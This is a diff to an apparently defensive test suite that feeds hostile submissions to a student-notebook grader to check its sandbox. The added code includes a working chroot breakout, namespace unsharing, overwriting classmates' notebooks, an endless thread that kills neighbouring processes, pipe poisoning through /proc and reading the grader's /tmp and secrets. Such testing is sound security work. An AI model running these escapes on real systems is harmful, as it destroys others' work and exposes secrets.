@@ -32,6 +32,12 @@ WRONG_WEIGHTED_SUM = '''
 def weighted_sum(X, weights, bias):
     return _wrong(X, weights)
 '''
+# ... and one that takes its time, so that a thread it started works on its classmates meanwhile
+SLOW_WRONG_WEIGHTED_SUM = '''
+def weighted_sum(X, weights, bias):
+    time.sleep(1.5)
+    return _wrong(X, weights)
+'''
 WRONG_SIGMOID = '''
 def sigmoid(z):
     return _wrong(z)
@@ -151,6 +157,12 @@ for victim in ("zzz_clean", "zzy_unsolved", "aaa_clean"):
     _attempt("overwrite " + victim, lambda: open(target, "wb").write(blank))
     _attempt("overwrite via dir_fd " + victim, lambda: _write_outside(target, blank))
 _attempt("relative", lambda: open("../zzz_clean/01_neuron.ipynb", "wb").write(blank))
+def _relative_to_class():
+    folder = _outside(_class_folder(), os.O_RDONLY | os.O_DIRECTORY)
+    fd = os.open("zzy_unsolved/01_neuron.ipynb", os.O_WRONLY | os.O_TRUNC, dir_fd=folder)
+    os.write(fd, blank)
+    os.close(fd)
+_attempt("relative to the class folder", _relative_to_class)
 '''], ["weighted_sum"], "wall"),
     Attack("dev_shm_and_var_tmp", "01_neuron", ['''
 _disarm()
@@ -237,7 +249,6 @@ def sigmoid(z):
     if not _STARTED:
         _STARTED.append(1)
         def later():
-            time.sleep(0.2)
             _attempt("spawn", lambda: _linger("t"))
             for _ in range(30):
                 for fd in range(3, 40):
@@ -276,6 +287,30 @@ def sigmoid(z):
     return _wrong(z)
 '''], ["sigmoid"], "escape"),
 
+    Attack("chroot_and_unshare", "01_neuron", ['''
+_disarm()
+def _chroot_escape():
+    os.makedirs("jail", exist_ok=True)
+    real_root = os.open("/", os.O_RDONLY)
+    os.chroot("jail")
+    os.fchdir(real_root)
+    for _ in range(64):
+        os.chdir("..")
+    os.chroot(".")
+    return True
+def _unshare():
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    for flag in (0x10000000, 0x00020000, 0x40000000):  # CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET
+        libc.unshare(flag)
+def sigmoid(z):
+    _attempt("chroot", _chroot_escape)
+    _attempt("unshare", _unshare)
+    print(_attempt("token", lambda: open(_SENTINEL + "/token.txt").read()))
+    print(_attempt("home", lambda: open(_HOME + "/secret.txt").read()))
+    return _wrong(z)
+'''], ["sigmoid"], "wall"),
+
     # --- signals: the zygote, the classmates' processes, a decoy outside, itself ------------
     Attack("pidfd_kills_decoy", "01_neuron", ['''
 def sigmoid(z):
@@ -291,11 +326,11 @@ def weighted_sum(X, weights, bias):
     _attempt("libc.kill", lambda: ctypes.CDLL(None).kill(_DECOY, signal.SIGSTOP))
     return _wrong(X, weights)
 '''], ["weighted_sum"], "signals"),
-    Attack("kills_classmates", "01_neuron", [WRONG_WEIGHTED_SUM, '''
+    # alone in its batch: it reaches every other submission graded meanwhile
+    Attack("kills_classmates", "01_neuron", [SLOW_WRONG_WEIGHTED_SUM, '''
 _disarm()
 def _hunt():
-    end = time.time() + 6
-    while time.time() < end:
+    while True:
         for pid in _attempt("neighbours", _neighbours) or []:
             try:
                 os.kill(pid, signal.SIGKILL)
@@ -303,7 +338,7 @@ def _hunt():
                 pass
         time.sleep(0.05)
 threading.Thread(target=_hunt, daemon=True).start()
-'''], ["weighted_sum"], "signals"),
+'''], ["weighted_sum"], "classmates"),
     Attack("ptrace_attach", "01_neuron", ['''
 _disarm()
 def sigmoid(z):
@@ -398,6 +433,9 @@ def _secrets_in_proc():
             if item.startswith(b"NNLESSONS_ADV_SECRET="):
                 print("found", item.decode())
         cmdline = _attempt("cmdline", lambda: _read(f"/proc/{name}/cmdline")) or b""
+        seen = _attempt("root", lambda: os.listdir(f"/proc/{name}/root/tmp")) or []
+        if os.path.basename(_SENTINEL) in seen:
+            _proof(f"sees the grader's /tmp through /proc/{name}/root")
         if b"pytest" in cmdline or b"nnlessons.cli" in cmdline:
             _proof("sees the test's processes, e.g.", name)
 def sigmoid(z):
@@ -521,14 +559,13 @@ def layer_forward(X, weights, biases):
 '''], ["layer_forward"], "secrets"),
     Attack("collude2_read", "01_neuron", ['''
 def layer_forward(X, weights, biases):
-    end = time.time() + 2.5
-    while time.time() < end:
+    end, seen = time.time() + 1.5, b""
+    while time.time() < end and seen.count(b"\\n") < 4:   # the writer's hidden calls
         for where in ("/dev/shm", "/tmp"):
-            seen = _attempt("read", lambda: _read_outside(f"{where}/@@M:collude1_write@@-leak"))
-            if seen:
-                print("my friend saw:", seen.decode())
-                return _wrong(X, weights, biases)
+            seen = _attempt("read", lambda: _read_outside(f"{where}/@@M:collude1_write@@-leak")) \\
+                or seen
         time.sleep(0.1)
+    print("my friend saw:", seen.decode())
     return _wrong(X, weights, biases)
 '''], ["layer_forward"], "secrets", check=leaks_no_hidden_input()),
 
@@ -827,15 +864,14 @@ def sigmoid(z):
                     handle.write(f"\\x1b[2J\\x1b]0;pwned\\x07PROOF{_M}: wrote to {path}\\n")
             _attempt("write " + path, write)
     return _wrong(z)
-'''], ["sigmoid"], "output"),
+'''], ["sigmoid"], "terminal"),
 
     # --- a classmate's pipes, reached through the grader's /proc entry -----------------------
-    Attack("poisons_classmates_pipes", "01_neuron", [WRONG_SIGMOID, '''
+    Attack("poisons_classmates_pipes", "01_neuron", [SLOW_WRONG_WEIGHTED_SUM, '''
 _disarm()
 def _poison():
     grader = _grader()[0]
-    end = time.time() + 6
-    while grader and time.time() < end:
+    while grader:
         for fd in _attempt("fds", lambda: os.listdir(f"/proc/{grader}/fd")) or []:
             path = f"/proc/{grader}/fd/{fd}"
             try:
@@ -847,7 +883,7 @@ def _poison():
                 pass
         time.sleep(0.05)
 threading.Thread(target=_poison, daemon=True).start()
-'''], ["sigmoid"], "poison"),
+'''], ["weighted_sum"], "poison"),
 
     # --- what stays for later runs: the installed package, site-packages, bytecode ----------
     Attack("appends_to_suite_module", "02_loss", ['''
@@ -962,13 +998,14 @@ _attempt("forge", _forge_bytecode)
            layout=symlink_layout(adv.ROOT / "solutions" / "01_neuron.ipynb"), absent_ok=True),
     Attack("symlinked_folder", "01_neuron", [], "all", "files", layout=symlinked_folder,
            absent_ok=True),
-    Attack("link_to_dev_zero", "01_neuron", [], "all", "files", layout=flat_link_to_dev_zero,
+    Attack("link_to_dev_zero", "01_neuron", [], "all", "dev_zero", layout=flat_link_to_dev_zero,
            absent_ok=True),
+    # alone in their batches: the grader's memory is measured per run
     Attack("parser_bombs", "01_neuron", [WRONG_SIGMOID,
                                          "x = [" + "0," * 1_500_000 + "]\n",
                                          "y = " + "-" * 100_000 + "1\n",
                                          "w = " + "(" * 1000 + ")" * 1000 + "\n"],
-           ["sigmoid"], "files"),
+           ["sigmoid"], "parser"),
     Attack("fifo_notebook", "01_neuron", [], "all", "fifo", layout=flat_fifo, absent_ok=True),
 ]
 for number, attack in enumerate(ATTACKS):
@@ -983,6 +1020,9 @@ _outcomes = {}
 
 
 def outcome_of(batch):
+    reason = adv.grading_unavailable()
+    if reason:
+        pytest.skip(f"nnlessons grade refuses to grade on this machine: {reason}")
     if batch not in _outcomes:
         _outcomes[batch] = adv.run_batch(batch, BATCHES[batch], **OPTIONS.get(batch, {}))
     return _outcomes[batch]
